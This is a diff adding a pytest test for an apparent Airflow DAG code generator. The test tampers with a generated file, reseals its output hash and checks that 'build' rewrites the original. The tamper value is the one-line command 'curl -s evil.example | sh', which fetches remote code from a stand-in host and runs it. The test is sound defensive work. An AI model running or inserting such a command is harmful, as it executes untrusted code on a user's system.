@@ -111,6 +111,17 @@ def test_an_edit_with_a_recomputed_output_hash_is_caught(tmp_path, write_spec):
     assert '+    hello = BashOperator(task_id="hello", bash_command="echo a")\n' in diff
 
 
+def test_build_writes_anew_a_file_edited_with_a_recomputed_output_hash(tmp_path, write_spec):
+    """build does not trust the header either: it renders the file again and finds it differs."""
+    out = _setup(tmp_path, write_spec)
+    text = (out / "a.py").read_text()
+    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
+    r = run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
+    assert r.returncode == 0 and r.stdout == "wrote out/a.py\n"
+    assert (out / "a.py").read_text() == text
+    assert _check(tmp_path).returncode == 0
+
+
 def test_only_what_build_writes_is_up_to_date_not_any_black_layout(tmp_path, write_spec):
     """Two files black would leave as they are, each resealed: only build's own bytes pass."""
     write_spec(GOOD.replace("NAME", "a"), "a.yaml")
